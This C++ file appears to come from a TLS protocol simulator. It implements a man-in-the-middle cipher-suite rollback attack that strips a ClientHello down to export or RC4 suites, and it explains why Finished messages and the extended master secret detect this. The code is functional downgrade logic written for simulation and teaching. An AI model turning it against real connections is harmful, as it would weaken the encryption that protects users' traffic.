// suite-rollback: the attacker rewrites the ClientHello in flight so that it offers only the weak
// suites (export, RC4) the client kept for compatibility; the server, seeing nothing better,
// picks one. The Finished messages cover the whole transcript (RFC 5246 7.4.9, SSL 3.0 RFC 6101
// 5.6.9), so each side sees that the other saw a different ClientHello; with the extended master
// secret (RFC 7627) even the keys differ. SSL 2.0 had neither, and so fell to this.
#include <algorithm>

#include "attack/script.hpp"
#include "core/bytes.hpp"

namespace sim::attack {

namespace {

bool weak(uint16_t id) {
  const CipherSuiteInfo* s = suite_by_id(id);
  return s && (s->exportable() || s->cipher == BulkCipher::rc4_128 || s->cipher == BulkCipher::rc4_40);
}
// Signalling values, not suites: kept so the change shows nowhere else.
bool signalling(uint16_t id) { return id == 0x00ff || id == 0x5600; }

class SuiteRollback : public Script {
 public:
  SuiteRollback() { won_ = msg("attack.suite-rollback.succeeded");
    lost_ = msg("attack.suite-rollback.failed"); }

  void on_record(const Event& record, Wire& wire) override {
    if (done_ || record.from != Actor::client || handshake_type(record) != HandshakeType::client_hello) return wire.pass();
    done_ = true;
    auto altered = strip(record.bytes);
    if (!altered) return wire.pass();
    wire.replace(std::move(*altered), AttackReason(msg("attack.suite-rollback.action")));
  }

 protected:
  bool succeeded(const Trace& t) const override {
    // The weak suite chosen, and the handshake completed with it on both sides.
    return t.handshake_complete && weak(t.negotiated.cipher_suite) && !first_fatal_alert(t);
  }
  std::vector<AttackEvidence> evidence(const Trace& t) const override {
    std::vector<AttackEvidence> ev;
    if (!removed_.empty()) ev.push_back(hex_evidence("suites_removed", msg("evidence.suites_removed"), removed_, rewritten_event(t)));
    if (t.negotiated.cipher_suite && weak(t.negotiated.cipher_suite)) {
      std::string n = suite_name(t.negotiated.cipher_suite);
      ev.push_back(text_evidence("weak_suite_chosen", msg("evidence.weak_suite_chosen"), to_bytes(n)));
    }
    return ev;
  }

 private:
  static std::optional<uint32_t> rewritten_event(const Trace& t) {
    for (size_t i = 0; i < t.events.size(); ++i)
      if (t.events[i].attack && t.events[i].attack->kind == AttackAction::Kind::replace) return uint32_t(i);
    return std::nullopt;
  }

  // The record with only the weak suites (and signalling values) left, every length fixed.
  std::optional<Bytes> strip(const Bytes& rec) {
    // record header 5, handshake header 4, version 2, random 32, session_id vector
    size_t p = 5 + 4 + 2 + 32;
    if (rec.size() < p + 1) return std::nullopt;
    p += 1 + rec[p];
    if (rec.size() < p + 2) return std::nullopt;
    size_t n = size_t(rec[p]) << 8 | rec[p + 1];
    if (rec.size() < p + 2 + n || n % 2) return std::nullopt;
    // The weakest the client offers: export suites if any (40-bit keys), else RC4.
    bool any_export = false;
    for (size_t i = 0; i < n; i += 2) {
      const CipherSuiteInfo* s = suite_by_id(uint16_t(rec[p + 2 + i] << 8 | rec[p + 3 + i]));
      any_export = any_export || (s && s->exportable());
    }
    auto keep = [&](uint16_t id) {
      const CipherSuiteInfo* s = suite_by_id(id);
      return signalling(id) || (weak(id) && (!any_export || s->exportable()));
    };
    Bytes kept;
    for (size_t i = 0; i < n; i += 2) {
      uint16_t id = uint16_t(rec[p + 2 + i] << 8 | rec[p + 3 + i]);
      Bytes& to = keep(id) ? kept : removed_;
      to.push_back(uint8_t(id >> 8));
      to.push_back(uint8_t(id));
    }
    bool any_weak = false;
    for (size_t i = 0; i + 1 < kept.size(); i += 2) any_weak = any_weak || weak(uint16_t(kept[i] << 8 | kept[i + 1]));
    if (removed_.empty() || !any_weak) {  // nothing weak to roll back to, or nothing to remove
      removed_.clear();
      return std::nullopt;
    }  // nothing weak, or nothing to remove
    Bytes out(rec.begin(), rec.begin() + long(p));
    out.push_back(uint8_t(kept.size() >> 8));
    out.push_back(uint8_t(kept.size()));
    append(out, kept);
    out.insert(out.end(), rec.begin() + long(p + 2 + n), rec.end());
    size_t body = out.size() - 9, frag = out.size() - 5;
    out[3] = uint8_t(frag >> 8), out[4] = uint8_t(frag);
    out[6] = uint8_t(body >> 16), out[7] = uint8_t(body >> 8), out[8] = uint8_t(body);
    return out;
  }

  bool done_ = false;
  Bytes removed_;
};

}  // namespace

std::shared_ptr<Attacker> suite_rollback(const ScenarioOptions&) { return std::make_shared<SuiteRollback>(); }

}  // namespace sim::attack
